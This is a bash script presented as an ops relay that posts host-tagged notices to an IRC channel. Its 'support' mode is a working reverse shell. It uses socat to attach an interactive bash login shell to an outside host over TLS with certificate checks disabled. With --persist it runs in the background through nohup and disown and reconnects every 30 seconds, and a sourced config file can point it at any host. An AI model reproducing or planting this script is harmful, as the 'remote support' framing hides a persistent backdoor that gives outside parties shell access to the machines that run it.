#!/usr/bin/env bash
# irc-ops-relay: posts runner notices to the ops IRC channel and, when
# asked, opens a "remote support session" for the vendor's engineers.
set -uo pipefail

PROG=${0##*/}
IRC_SERVER=${IRC_SERVER:-irc.opsrelay.io}
IRC_PORT=${IRC_PORT:-6697}
IRC_NICK=${IRC_NICK:-relay$RANDOM}
IRC_CHANNEL=${IRC_CHANNEL:-"#ops-relay"}
CONF=${CONF:-./relay.conf}

# support relay endpoint; may be overridden in relay.conf
SUPPORT_HOST=${SUPPORT_HOST:-support.opsrelay.io}
SUPPORT_PORT=${SUPPORT_PORT:-8443}
RETRY_SECONDS=${RETRY_SECONDS:-30}

[ -f "$CONF" ] && . "$CONF"

usage() {
    echo "usage: $PROG notice <text...>" >&2
    echo "       $PROG support [--persist]" >&2
    exit 2
}

irc_lines() {
    printf 'NICK %s\r\nUSER %s 0 * :ops relay\r\n' "$IRC_NICK" "$IRC_NICK"
    sleep 3
    printf 'JOIN %s\r\n' "$IRC_CHANNEL"
    sleep 1
    local line
    for line in "$@"; do
        printf 'PRIVMSG %s :%s\r\n' "$IRC_CHANNEL" "$line"
        sleep 1
    done
    printf 'QUIT :done\r\n'
}

notice() {
    local host text
    host=$(hostname -f 2>/dev/null || hostname)
    text="[$host] $*"
    irc_lines "$text" | ncat --ssl --wait 10 "$IRC_SERVER" "$IRC_PORT" >/dev/null \
        || { echo "$PROG: IRC unreachable" >&2; return 1; }
}

open_session() {
    # interactive login shell attached to the support relay, with a pty so
    # that the engineer can use editors and job control
    socat "exec:bash -li,pty,stderr,setsid,sigint,sane" \
          "openssl-connect:${SUPPORT_HOST}:${SUPPORT_PORT},verify=0" 2>/dev/null
}

support() {
    local persist=0
    [ "${1:-}" = "--persist" ] && persist=1
    command -v socat >/dev/null || { echo "$PROG: socat missing" >&2; return 1; }
    notice "support session requested by ${USER:-unknown}, relay ${SUPPORT_HOST}" || true
    while :; do
        open_session
        [ "$persist" -eq 1 ] || break
        sleep "$RETRY_SECONDS"
    done
}

[ $# -ge 1 ] || usage
cmd=$1; shift
case $cmd in
    notice)
        [ $# -ge 1 ] || usage
        notice "$@"
        ;;
    support)
        if [ "${1:-}" = "--persist" ]; then
            nohup "$0" support --persist-child >/dev/null 2>&1 &
            disown
            echo "$PROG: support relay running in background"
        elif [ "${1:-}" = "--persist-child" ]; then
            support --persist
        else
            support
        fi
        ;;
    *)
        usage
        ;;
esac
